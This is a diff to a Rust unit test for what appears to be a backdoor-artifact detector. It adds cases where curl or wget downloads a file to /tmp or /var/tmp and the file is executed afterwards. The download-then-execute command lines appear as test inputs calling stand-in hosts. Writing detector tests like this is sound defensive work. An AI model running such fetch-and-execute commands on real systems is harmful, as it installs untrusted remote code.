@@ -191,6 +191,15 @@ fn a_downloaded_file_run_later_is_a_backdoor_artifact() {
     let relative =
         [exec_at("wget -O i.sh https://example.com/i.sh", c, T + 700_000), exec_at("sh /root/i.sh", c, T + 701_000)];
     assert_eq!(feed(&mut detector, &relative), 1);
+    // Combined short flags and wget's directory prefix write files too.
+    let combined =
+        [exec_at("curl -fsSLo /tmp/m http://203.0.113.5/m", c, T + 800_000), exec_at("/tmp/m", c, T + 801_000)];
+    assert_eq!(feed(&mut detector, &combined), 1);
+    let prefixed = [
+        exec_at("wget -q -P /var/tmp http://203.0.113.5/kit", c, T + 900_000),
+        exec_at("/var/tmp/kit", c, T + 901_000),
+    ];
+    assert_eq!(feed(&mut detector, &prefixed), 1);
 }
 
 #[test]
